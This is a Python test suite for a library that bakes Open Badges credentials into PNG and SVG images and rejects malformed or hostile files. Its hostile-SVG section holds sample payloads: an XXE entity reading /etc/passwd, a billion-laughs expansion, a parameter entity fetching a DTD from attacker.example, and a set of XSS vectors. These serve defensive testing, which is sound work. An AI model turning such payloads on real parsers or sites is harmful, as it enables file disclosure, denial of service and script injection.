"""Baking credentials into PNG and SVG images, reading them back, and refusing hostile files."""

from __future__ import annotations

import contextlib
import json
import struct
import tracemalloc
import zlib
from io import BytesIO
from pathlib import Path
from types import MappingProxyType
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from microcred.baking import (
    MAX_CREDENTIAL_BYTES,
    MAX_IMAGE_BYTES,
    BakedCredential,
    BakingError,
    NoCredentialError,
    bake,
    bake_png,
    bake_svg,
    image_format,
    sanitize_svg,
    unbake,
)

FIXTURES = Path(__file__).parents[1] / "fixtures" / "baking"
OB3 = "https://purl.imsglobal.org/ob/v3p0"
OB2 = "http://openbadges.org"
SVG = "http://www.w3.org/2000/svg"

CREDENTIAL = {
    "@context": [
        "https://www.w3.org/ns/credentials/v2",
        "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
    ],
    "id": "https://issuer.example/credentials/1",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "issuer": {"id": "did:web:issuer.example", "type": ["Profile"], "name": "Schule Ähren"},
    "name": "Grundkurs ]]> Löten",
    "credentialSubject": {"type": ["AchievementSubject"], "achievement": {"name": "Löten"}},
}
# A signed document as stored: pretty-printed, non-ASCII, never to be re-serialized.
SIGNED_JSON = json.dumps(CREDENTIAL, indent=2, ensure_ascii=False)
JWT = (
    "eyJhbGciOiJFZERTQSIsImtpZCI6ImRpZDp3ZWI6aXNzdWVyLmV4YW1wbGUja2V5LTEifQ"
    ".eyJpc3MiOiJkaWQ6d2ViOmlzc3Vlci5leGFtcGxlIn0"
    ".MEUCIQDx2Fq_kZbXw9yKpX3b9Ts6n4T1oKqYwA-lJ0M7q2wRAIgUu8"
)
PLAIN_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">\n'
    b'  <circle cx="50" cy="50" r="40" fill="#c00"/>\n'
    b"</svg>\n"
)


def _png(mode: str = "RGBA", size: tuple[int, int] = (24, 16), info=None) -> bytes:
    image = Image.new(mode, size)
    image.putdata([(x * 7 + y) % 256 for y in range(size[1]) for x in range(size[0])])
    if mode == "RGBA":
        image = Image.merge("RGBA", [image.getchannel("R")] * 3 + [image.getchannel("A")])
        image.putpixel((0, 0), (1, 2, 3, 4))
    buffer = BytesIO()
    image.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def _png_with_text(*texts: tuple[str, str, str]) -> bytes:
    """A PNG written by Pillow with (kind, keyword, text) chunks: tEXt, zTXt, iTXt or iTXt-z."""
    info = PngImagePlugin.PngInfo()
    for kind, keyword, text in texts:
        if kind == "tEXt":
            info.add_text(keyword, text)
        elif kind == "zTXt":
            info.add_text(keyword, text, zip=True)
        else:
            info.add_itxt(keyword, text, zip=kind == "iTXt-z")
    return _png(info=info)


def _chunk(chunk_type: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body))
        + chunk_type
        + body
        + struct.pack(">I", zlib.crc32(chunk_type + body))
    )


def _chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    """(type, body) of every chunk, read independently of the code under test."""
    chunks, position = [], 8
    while position < len(png):
        (length,) = struct.unpack(">I", png[position : position + 4])
        chunk_type = png[position + 4 : position + 8]
        chunks.append((chunk_type, png[position + 8 : position + 8 + length]))
        position += 12 + length
    return chunks


def _crafted_png(*extra_before_idat: bytes, width: int = 1, height: int = 1) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\0")
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + b"".join(extra_before_idat)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


def _itxt(keyword: str, text: bytes) -> bytes:
    return _chunk(b"iTXt", keyword.encode() + b"\0\0\0\0\0" + text)


def _fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def _svg_root(data: bytes) -> Element:
    return fromstring(data)


# --- telling formats apart ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "png"),
        (b"<svg/>", "svg"),
        (b'\xef\xbb\xbf\n <?xml version="1.0"?><svg/>', "svg"),
        ("<svg/>".encode("utf-16"), "svg"),
    ],
)
def test_it_tells_png_from_svg_by_the_first_bytes(data: bytes, expected: str) -> None:
    assert image_format(data) == expected


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\xff\xd8\xff\xe0\0\x10JFIF", "JPEG file cannot carry"),
        (b"GIF89a\x01\0\x01\0", "GIF file cannot carry"),
        (b"RIFF\0\0\0\0WEBPVP8 ", "WebP file cannot carry"),
        (b"%PDF-1.7", "PDF file cannot carry"),
        (b"\x1f\x8b\x08\0", "SVGZ"),
        (b"hello, I am not an image", "neither a PNG nor an SVG"),
        (b"", "neither a PNG nor an SVG"),
    ],
)
def test_it_refuses_files_that_cannot_carry_a_credential(data: bytes, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        unbake(data)
    with pytest.raises(BakingError, match=message):
        bake(data, CREDENTIAL)


def test_it_refuses_text_where_bytes_are_expected() -> None:
    with pytest.raises(BakingError, match="bytes, not str"):
        unbake(PLAIN_SVG.decode())  # type: ignore[arg-type]


# --- PNG -----------------------------------------------------------------------------------------


def test_it_bakes_a_credential_into_a_png_and_reads_it_back() -> None:
    original = _png()
    baked = bake_png(original, CREDENTIAL)
    found = unbake(baked)
    assert found == BakedCredential(
        kind="ob3-json",
        payload=CREDENTIAL,
        image_format="png",
        text=json.dumps(CREDENTIAL, ensure_ascii=False, separators=(",", ":")),
    )


def test_the_baked_png_keeps_its_pixels() -> None:
    original = _png()
    baked = bake(original, JWT)
    with Image.open(BytesIO(original)) as before, Image.open(BytesIO(baked)) as after:
        assert (after.format, after.mode, after.size) == ("PNG", before.mode, before.size)
        assert after.tobytes() == before.tobytes()
        assert after.getpixel((0, 0)) == (1, 2, 3, 4)


def test_pillow_reads_the_credential_from_an_uncompressed_itxt_chunk() -> None:
    baked = bake_png(_png(), JWT)
    with Image.open(BytesIO(baked)) as opened:
        assert opened.text == {"openbadgecredential": JWT}
    itxt = [body for chunk_type, body in _chunks(baked) if chunk_type == b"iTXt"]
    assert itxt == [b"openbadgecredential\0" + b"\0\0" + b"\0" + b"\0" + JWT.encode()]


def test_the_credential_chunk_comes_before_the_first_idat() -> None:
    types = [chunk_type for chunk_type, _ in _chunks(bake_png(_png(mode="P"), JWT))]
    assert types[0] == b"IHDR"
    assert types.index(b"PLTE") < types.index(b"iTXt") == types.index(b"IDAT") - 1
    assert types[-1] == b"IEND"


def test_any_mapping_can_be_baked() -> None:
    assert unbake(bake_png(_png(), MappingProxyType(CREDENTIAL))).payload == CREDENTIAL


def test_a_jwt_is_read_back_as_a_jwt() -> None:
    found = unbake(bake_png(_png(), JWT))
    assert (found.kind, found.payload, found.text) == ("ob3-jwt", JWT, JWT)


def test_a_credential_given_as_text_is_baked_byte_for_byte() -> None:
    found = unbake(bake_png(_png(), SIGNED_JSON))
    assert found.text == SIGNED_JSON
    assert found.payload == CREDENTIAL
    assert SIGNED_JSON.encode("utf-8") in bake_png(_png(), SIGNED_JSON)


def test_baking_again_replaces_the_credential() -> None:
    twice = bake_png(bake_png(_png(), CREDENTIAL), JWT)
    assert unbake(twice).payload == JWT
    assert sum(chunk_type == b"iTXt" for chunk_type, _ in _chunks(twice)) == 1


def test_baking_replaces_an_open_badges_2_assertion() -> None:
    legacy = _png_with_text(("tEXt", "openbadges", "https://example.org/assertions/1"))
    baked = bake_png(legacy, JWT)
    assert unbake(baked).kind == "ob3-jwt"
    assert b"openbadges\0https" not in baked


def test_baking_keeps_every_other_chunk_in_order() -> None:
    original = _png_with_text(("tEXt", "Author", "Ada"), ("iTXt", "Description", "Grüße"))
    baked = bake_png(original, JWT)
    kept = [c for c in _chunks(baked) if not c[1].startswith(b"openbadgecredential\0")]
    assert kept == _chunks(original)
    assert len(baked) == len(original) + 12 + len(b"openbadgecredential") + 5 + len(JWT)


def test_baking_drops_bytes_after_the_end_of_the_png() -> None:
    original = _png()
    baked = bake_png(original + b"trailing garbage", JWT)
    assert baked.endswith(_chunk(b"IEND", b""))


def test_it_reads_an_open_badges_2_hosted_url_from_a_text_chunk() -> None:
    legacy = _png_with_text(("tEXt", "openbadges", "https://example.org/assertions/123"))
    assert unbake(legacy) == BakedCredential(
        "ob2-url",
        "https://example.org/assertions/123",
        "png",
        "https://example.org/assertions/123",
    )


def test_it_reads_an_open_badges_2_assertion_from_an_itxt_chunk() -> None:
    assertion = {"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": "urn:x"}
    legacy = _png_with_text(("iTXt", "openbadges", json.dumps(assertion)))
    found = unbake(legacy)
    assert (found.kind, found.payload, found.image_format) == ("ob2-json", assertion, "png")


def test_it_reads_an_open_badges_2_signature_from_a_compressed_chunk() -> None:
    found = unbake(_png_with_text(("zTXt", "openbadges", JWT)))
    assert (found.kind, found.payload) == ("ob2-jws", JWT)


def test_it_reads_a_compressed_itxt_although_the_spec_forbids_writing_one() -> None:
    found = unbake(_png_with_text(("iTXt-z", "openbadgecredential", SIGNED_JSON)))
    assert (found.kind, found.text) == ("ob3-json", SIGNED_JSON)


def test_keywords_are_case_sensitive() -> None:
    with pytest.raises(NoCredentialError, match="carries no baked credential"):
        unbake(_png_with_text(("iTXt", "OpenBadgeCredential", JWT)))


def test_a_png_without_a_credential_says_so() -> None:
    with pytest.raises(NoCredentialError, match="PNG image carries no baked credential"):
        unbake(_png_with_text(("tEXt", "Software", "GIMP")))


def test_a_credential_chunk_after_the_end_is_not_read() -> None:
    with pytest.raises(NoCredentialError):
        unbake(_png() + _itxt("openbadgecredential", JWT.encode()))


@pytest.mark.parametrize(
    "texts",
    [
        (("iTXt", "openbadgecredential", JWT), ("iTXt", "openbadgecredential", JWT)),
        (("iTXt", "openbadgecredential", JWT), ("tEXt", "openbadges", "https://a.example/1")),
        (("tEXt", "openbadges", "https://a.example/1"), ("zTXt", "openbadges", JWT)),
    ],
)
def test_it_refuses_a_png_with_more_than_one_credential(texts: tuple) -> None:
    with pytest.raises(BakingError, match=r"carries 2 credentials .*ambiguous"):
        unbake(_png_with_text(*texts))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (b"hello", "neither a JSON object nor a compact JWS"),
        (b"[1, 2]", "neither a JSON object nor a compact JWS"),
        (b'{"a": NaN}', "broken JSON"),
        (b'{"a": 1', "broken JSON"),
        (b'{"a": [' + b"[" * 100_000 + b"]", "broken JSON"),
        (b"https://example.org/a", "neither a JSON object nor a compact JWS"),
        (b"\xff\xfe{}", "not valid UTF-8"),
        (b"", "neither a JSON object"),
    ],
)
def test_it_refuses_a_credential_chunk_that_holds_no_credential(text: bytes, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        unbake(_crafted_png(_itxt("openbadgecredential", text)))


def test_it_refuses_open_badges_2_text_that_is_no_assertion() -> None:
    with pytest.raises(BakingError, match="neither a JSON object, a compact JWS nor a web URL"):
        unbake(_crafted_png(_chunk(b"tEXt", b"openbadges\0javascript:alert(1)")))


@pytest.mark.parametrize(
    "body",
    [
        b"openbadgecredential\0",
        b"openbadgecredential\0\0\0",
        b"openbadgecredential\0\x02\0\0\0{}",
        b"openbadgecredential\0\x01\x05\0\0xx",
    ],
)
def test_it_refuses_a_malformed_itxt_chunk(body: bytes) -> None:
    with pytest.raises(BakingError, match="iTXt chunk 'openbadgecredential'"):
        unbake(_crafted_png(_chunk(b"iTXt", body)))


def test_it_refuses_a_png_whose_crc_does_not_match() -> None:
    baked = bytearray(bake_png(_png(), JWT))
    baked[baked.index(b"IDAT") + 6] ^= 0x01
    with pytest.raises(BakingError, match=r"IDAT chunk at byte .* fails its CRC check"):
        unbake(bytes(baked))
    with pytest.raises(BakingError, match="fails its CRC check"):
        bake_png(bytes(baked), JWT)


@pytest.mark.parametrize("keep", [8, 20, 33, 60, -13, -1])
def test_it_refuses_a_truncated_png(keep: int) -> None:
    truncated = bake_png(_png(), JWT)[:keep]
    with pytest.raises(BakingError, match="truncated"):
        unbake(truncated)
    with pytest.raises(BakingError, match="truncated"):
        bake(truncated, JWT)


@pytest.mark.parametrize(
    ("png", "message"),
    [
        (b"\x89PNG\r\n\x1a\n" + _chunk(b"IDAT", b"") + _chunk(b"IEND", b""), "IHDR"),
        (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", bytes(13)) + _chunk(b"IEND", b""), "0x0 pixels"),
        (_crafted_png().replace(_chunk(b"IDAT", zlib.compress(b"\0\0")), b""), "no image data"),
        (_crafted_png().replace(b"IDAT", b"ID4T"), "no valid chunk"),
    ],
)
def test_it_refuses_a_png_with_a_broken_structure(png: bytes, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        unbake(png)


def test_it_refuses_a_png_of_absurd_dimensions_without_decoding_it() -> None:
    bomb = _crafted_png(_itxt("openbadgecredential", JWT.encode()), width=100_000, height=100_000)
    with pytest.raises(BakingError, match="100000x100000 pixels, more than the 50000000"):
        unbake(bomb)
    with pytest.raises(BakingError, match="decompression bomb"):
        bake_png(bomb, JWT)


def test_a_compressed_text_bomb_is_refused_without_expanding_it() -> None:
    compressor = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    bomb = b"".join(compressor.compress(block) for _ in range(64)) + compressor.flush()
    png = _crafted_png(_chunk(b"zTXt", b"openbadges\0\0" + bomb))
    tracemalloc.start()
    try:
        with pytest.raises(BakingError, match=r"expands to more than .* decompression bomb"):
            unbake(png)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 3 * MAX_CREDENTIAL_BYTES


def test_a_compressed_colour_profile_bomb_is_refused_when_baking() -> None:
    bomb = zlib.compress(bytes(64 * 1024 * 1024), 9)
    png = _crafted_png(_chunk(b"iCCP", b"icc\0\0" + bomb))
    with pytest.raises(BakingError, match="PNG image cannot be read"):
        bake_png(png, JWT)


def test_it_refuses_an_oversized_file_before_reading_it() -> None:
    huge = _png() + bytes(MAX_IMAGE_BYTES)
    with pytest.raises(BakingError, match=f"more than the {MAX_IMAGE_BYTES} allowed"):
        unbake(huge)
    with pytest.raises(BakingError, match=f"more than the {MAX_IMAGE_BYTES} allowed"):
        bake(huge, JWT)


def test_it_refuses_an_oversized_credential_chunk() -> None:
    big = _crafted_png(_itxt("openbadgecredential", b"x" * (MAX_CREDENTIAL_BYTES + 2000)))
    with pytest.raises(BakingError, match=r"more than the .* allowed for a credential"):
        unbake(big)


def test_it_refuses_a_png_made_of_too_many_chunks() -> None:
    noise = _chunk(b"tIME", bytes(7)) * 100_001
    with pytest.raises(BakingError, match="more than 100000 chunks"):
        unbake(_crafted_png(noise))


# --- what can be baked -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("credential", "message"),
    [
        ("not a credential", "neither a JSON object nor a compact JWS"),
        ("[1, 2, 3]", "neither a JSON object nor a compact JWS"),
        ('{"broken": ', "broken JSON"),
        ("a.b", "neither a JSON object"),
        ({"when": {1, 2}}, "cannot be written as JSON"),
        ({"x": float("nan")}, "cannot be written as JSON"),
        ("\ud800", "not valid Unicode"),
        (42, "JSON object or a string"),
        ("x" * (MAX_CREDENTIAL_BYTES + 1), "more than"),
    ],
)
def test_it_refuses_to_bake_what_is_not_a_credential(credential: object, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        bake_png(_png(), credential)  # type: ignore[arg-type]
    with pytest.raises(BakingError, match=message):
        bake_svg(PLAIN_SVG, credential)  # type: ignore[arg-type]


def test_it_refuses_to_bake_a_png_into_an_svg_and_back() -> None:
    with pytest.raises(BakingError, match="not a PNG"):
        bake_png(PLAIN_SVG, JWT)
    with pytest.raises(BakingError, match="not well-formed XML"):
        bake_svg(_png(), JWT)


# --- SVG -----------------------------------------------------------------------------------------


def test_it_bakes_a_credential_into_an_svg_and_reads_it_back() -> None:
    baked = bake_svg(PLAIN_SVG, CREDENTIAL)
    found = unbake(baked)
    assert (found.kind, found.payload, found.image_format) == ("ob3-json", CREDENTIAL, "svg")


def test_the_credential_element_is_the_first_child_with_json_in_cdata() -> None:
    baked = bake(PLAIN_SVG, SIGNED_JSON)
    root = _svg_root(baked)
    assert root[0].tag == f"{{{OB3}}}credential"
    assert root[0].text == SIGNED_JSON
    assert "verify" not in root[0].attrib
    assert b"<openbadges:credential><![CDATA[{" in baked
    assert b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in baked
    assert unbake(baked).text == SIGNED_JSON


def test_a_jwt_goes_into_the_verify_attribute() -> None:
    baked = bake_svg(PLAIN_SVG, JWT)
    root = _svg_root(baked)
    assert root[0].tag == f"{{{OB3}}}credential"
    assert root[0].get("verify") == JWT
    assert not root[0].text
    assert unbake(baked) == BakedCredential("ob3-jwt", JWT, "svg", JWT)


def test_baking_an_svg_changes_nothing_else() -> None:
    baked = bake_svg(PLAIN_SVG, JWT)
    element = f'<openbadges:credential verify="{JWT}"></openbadges:credential>'.encode()
    restored = baked.replace(element, b"").replace(
        b' xmlns:openbadges="' + OB3.encode() + b'"', b""
    )
    assert restored == PLAIN_SVG


def test_baking_again_replaces_the_credential_element() -> None:
    twice = bake_svg(bake_svg(PLAIN_SVG, SIGNED_JSON), JWT)
    assert unbake(twice).payload == JWT
    assert twice.count(b"openbadges:credential") == 2  # one start tag, one end tag
    assert bake_svg(twice, JWT) == twice


def test_baking_replaces_an_open_badges_2_assertion_and_rebinds_the_prefix() -> None:
    baked = bake_svg(_fixture("ob2_hosted_assertion.svg"), JWT)
    assert b"openbadges:assertion" not in baked
    assert b"http://openbadges.org" not in baked
    assert unbake(baked).kind == "ob3-jwt"
    assert _svg_root(baked).find(f"{{{SVG}}}circle") is not None


def test_it_bakes_into_a_self_closing_root() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg" width="1"/>', JWT)
    assert baked.endswith(b"</openbadges:credential></svg>")
    assert unbake(baked).payload == JWT


def test_it_bakes_into_an_svg_exported_with_a_doctype() -> None:
    exported = _fixture("exported_with_doctype.svg")
    baked = bake_svg(exported, CREDENTIAL)
    assert baked.startswith(exported[: exported.index(b"<svg")])
    assert unbake(baked).payload == CREDENTIAL
    assert "Grüße".encode() in baked


def test_it_bakes_into_an_svg_with_a_byte_order_mark() -> None:
    baked = bake_svg(b"\xef\xbb\xbf" + PLAIN_SVG, JWT)
    assert baked.startswith(b"\xef\xbb\xbf<?xml")
    assert unbake(baked).payload == JWT


def test_an_ascii_svg_declared_as_latin_1_is_baked_as_utf_8() -> None:
    latin = PLAIN_SVG.replace(b"UTF-8", b"ISO-8859-1")
    baked = bake_svg(latin, CREDENTIAL)
    assert baked.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    assert unbake(baked).payload == CREDENTIAL


def test_it_refuses_to_bake_an_svg_that_is_not_utf_8() -> None:
    latin = PLAIN_SVG.replace(b"UTF-8", b"ISO-8859-1").replace(b"#c00", "#cö0".encode("latin-1"))
    with pytest.raises(BakingError, match="only UTF-8 SVG images can be baked; this one is ISO"):
        bake_svg(latin, JWT)
    with pytest.raises(BakingError, match="UTF-16"):
        bake_svg(PLAIN_SVG.decode().replace("UTF-8", "UTF-16").encode("utf-16"), JWT)


def test_it_reads_a_utf_16_svg() -> None:
    svg = _fixture("ob2_verify_url.svg").decode().encode("utf-16")
    assert unbake(svg).payload == "https://badges.example.org/assertions/42.json"


def test_it_reads_the_open_badges_3_spec_examples() -> None:
    found = unbake(_fixture("ob3_credential_json.svg"))
    assert found.kind == "ob3-json"
    assert found.payload["id"] == "http://example.edu/credentials/3732"
    assert found.text.startswith("{") and found.text.endswith("}")
    assert unbake(_fixture("ob3_credential_jwt.svg")) == BakedCredential(
        "ob3-jwt", "header.payload.signature", "svg", "header.payload.signature"
    )


def test_it_reads_the_open_badges_2_baked_svgs() -> None:
    hosted = unbake(_fixture("ob2_hosted_assertion.svg"))
    assert (hosted.kind, hosted.payload["id"]) == ("ob2-json", "https://example.org/assertions/123")
    signed = unbake(_fixture("ob2_signed_assertion.svg"))
    assert signed.kind == "ob2-jws"
    assert signed.payload.startswith("eyJhbGciOiJSUzI1NiJ9.")
    url = unbake(_fixture("ob2_verify_url.svg"))
    assert (url.kind, url.payload) == ("ob2-url", "https://badges.example.org/assertions/42.json")


def test_an_svg_without_a_credential_says_so() -> None:
    with pytest.raises(NoCredentialError, match="SVG image carries no baked credential"):
        unbake(_fixture("exported_with_doctype.svg"))


@pytest.mark.parametrize(
    "inside",
    [
        b'<b:credential verify="a.b.c"/><b:credential verify="a.b.c"/>',
        b'<g><b:credential verify="a.b.c"/></g><b:credential verify="a.b.c"/>',
        b'<b:credential verify="a.b.c"/><o:assertion verify="https://x.example/1"/>',
    ],
)
def test_it_refuses_an_svg_with_more_than_one_credential(inside: bytes) -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:b="https://purl.imsglobal.org/ob/v3p0" '
        b'xmlns:o="http://openbadges.org">' + inside + b"</svg>"
    )
    with pytest.raises(BakingError, match=r"carries 2 credentials .*ambiguous"):
        unbake(svg)


@pytest.mark.parametrize(
    ("element", "message"),
    [
        (b'<b:credential verify="a.b.c">{"a": 1}</b:credential>', "both a verify attribute and"),
        (b"<b:credential>  </b:credential>", "element is empty"),
        (b'<b:credential verify=""/>', "element is empty"),
        (b"<b:credential>not json</b:credential>", "neither a JSON object nor a compact JWS"),
        (
            b'<b:credential verify="https://x.example/c"/>',
            "neither a JSON object nor a compact JWS",
        ),
    ],
)
def test_it_refuses_a_credential_element_that_holds_no_credential(
    element: bytes, message: str
) -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:b="' + OB3.encode() + b'">'
    with pytest.raises(BakingError, match=message):
        unbake(svg + element + b"</svg>")


def test_it_refuses_xml_that_is_not_an_svg() -> None:
    with pytest.raises(BakingError, match=r"not an SVG image \(its root is <html>\)"):
        unbake(b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>')


@pytest.mark.parametrize(
    "svg",
    [
        b"<svg",
        b"<svg></g>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><b:credential/></svg>',
        b"<svg/><svg/>",
        b'<?xml version="1.0" encoding="no-such-encoding"?><svg/>',
    ],
)
def test_it_refuses_an_svg_that_is_not_well_formed(svg: bytes) -> None:
    with pytest.raises(BakingError, match="not well-formed XML"):
        unbake(svg)
    with pytest.raises(BakingError, match="not well-formed XML"):
        sanitize_svg(svg)


# --- hostile SVG -------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:b="https://purl.imsglobal.org/ob/v3p0">
<b:credential>&xxe;</b:credential></svg>"""
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>'
)
PARAMETER_ENTITY = b"""<!DOCTYPE svg [
<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("svg", [XXE, BILLION_LAUGHS, PARAMETER_ENTITY])
def test_it_refuses_an_svg_that_declares_entities(svg: bytes) -> None:
    for operation in (unbake, sanitize_svg, lambda data: bake_svg(data, JWT)):
        with pytest.raises(BakingError, match="declares XML entities"):
            operation(svg)


def _scripted(attack: bytes) -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
        b'<openbadges:credential verify="' + JWT.encode() + b'"/>' + attack + b"</svg>"
    )


ATTACKS = {
    "script element": b"<script>alert(document.domain)</script>",
    "script in foreignObject": (
        b'<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
        b"<script>alert(1)</script></div></foreignObject>"
    ),
    "iframe in foreignObject": (
        b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://x.example"/>'
        b"</foreignObject>"
    ),
    "event handler": b'<rect width="5" height="5" onclick="alert(1)"/>',
    "upper-case event handler": b'<rect ONMOUSEOVER="alert(1)"/>',
    "javascript link": b'<a href="javascript:alert(1)"><text>x</text></a>',
    "obfuscated javascript link": b'<a xlink:href=" JaVa&#x09;ScRiPt:alert(1)"><text>x</text></a>',
    "animated link": b'<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
    "animated handler": b'<set attributeName="onmouseover" to="alert(1)"/>',
    "html data link": b'<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "scriptable css": b"<style>rect { background: url(javascript:alert(1)) }</style>",
    "css expression": b'<rect style="width: expression(alert(1))"/>',
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_it_refuses_to_bake_into_an_svg_with_active_content(attack: bytes) -> None:
    with pytest.raises(BakingError, match="refusing to bake into an SVG with active content"):
        bake_svg(_scripted(attack), CREDENTIAL)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_it_still_reads_the_credential_of_an_svg_with_active_content(attack: bytes) -> None:
    assert unbake(_scripted(attack)).payload == JWT


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_sanitizing_removes_active_content_and_keeps_the_credential(attack: bytes) -> None:
    clean = sanitize_svg(_scripted(attack))
    lowered = clean.lower()
    for marker in (b"script", b"onclick", b"onmouseover", b"iframe", b"expression", b"<set"):
        assert marker not in lowered
    assert b"data:text/html" not in lowered
    assert unbake(clean).payload == JWT
    assert unbake(bake_svg(clean, CREDENTIAL)).payload == CREDENTIAL


def test_a_dtd_default_attribute_cannot_smuggle_an_event_handler() -> None:
    svg = (
        b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
    )
    with pytest.raises(BakingError, match="event handler attribute onload"):
        bake_svg(svg, JWT)
    assert b"onload" not in sanitize_svg(svg)


def test_a_dtd_default_attribute_cannot_change_the_baked_credential() -> None:
    svg = (
        b"<!DOCTYPE svg [<!ATTLIST openbadges:credential verify CDATA 'x.y.z'>]>"
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'
    )
    with pytest.raises(BakingError, match="cannot carry the credential"):
        bake_svg(svg, CREDENTIAL)


def test_sanitizing_removes_references_to_other_documents() -> None:
    svg = b"""<?xml version="1.0"?>
<?xml-stylesheet href="https://tracker.example/a.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3">
  <!-- a comment -->
  <style>@import url(https://tracker.example/b.css); .a { fill: red }</style>
  <style>.b { fill: url(#grad) }</style>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>
  <use href="sprites.svg#star"/>
  <use href="#local"/>
  <rect style="fill: url('https://tracker.example/c')" fill="url(#grad)"/>
  <rect style="fill: \\75rl(https://tracker.example/d)"/>
  <a href="https://issuer.example/badge"><text>Issuer</text></a>
  <inkscape:path-effect/>
</svg>"""
    clean = sanitize_svg(svg)
    assert b"tracker.example" not in clean
    assert b"sprites.svg" not in clean
    assert b"data:image/svg+xml" not in clean
    assert b"inkscape" not in clean
    assert b"comment" not in clean
    assert b'xlink:href="data:image/png;base64,iVBORw0KGgo="' in clean
    assert b'href="#local"' in clean
    assert b'fill="url(#grad)"' in clean
    assert b".b { fill: url(#grad) }" in clean
    assert b'<a href="https://issuer.example/badge">' in clean


def test_sanitizing_keeps_an_exported_design_intact() -> None:
    clean = sanitize_svg(_fixture("exported_with_doctype.svg"))
    assert b"<!DOCTYPE" not in clean
    root = _svg_root(clean)
    assert root.get("viewBox") == "0 0 200 200"
    assert root.get("{http://www.w3.org/XML/1998/namespace}space") == "preserve"
    assert [child.tag.split("}")[1] for child in root] == [
        "style",
        "defs",
        "circle",
        "circle",
        "use",
        "text",
    ]
    assert root[5].text == "Grüße"
    assert root[4].get("{http://www.w3.org/1999/xlink}href") == "#Gradient"


def test_sanitizing_keeps_an_open_badges_2_assertion() -> None:
    clean = sanitize_svg(_fixture("ob2_hosted_assertion.svg"))
    assert unbake(clean).payload == unbake(_fixture("ob2_hosted_assertion.svg")).payload


def test_sanitizing_an_svg_without_a_namespace_puts_it_in_the_svg_namespace() -> None:
    clean = sanitize_svg(b'<svg width="2"><rect/></svg>')
    assert _svg_root(clean).tag == f"{{{SVG}}}svg"
    assert _svg_root(clean)[0].tag == f"{{{SVG}}}rect"


def test_it_refuses_an_svg_with_too_many_tags() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g/>" * 50_001 + b"</svg>"
    with pytest.raises(BakingError, match="more than 50000 tags"):
        unbake(svg)


def test_it_refuses_an_svg_with_too_many_attributes() -> None:
    attributes = b" ".join(b'a%d=""' % i for i in range(100_001))
    with pytest.raises(BakingError, match="more than 100000 attributes"):
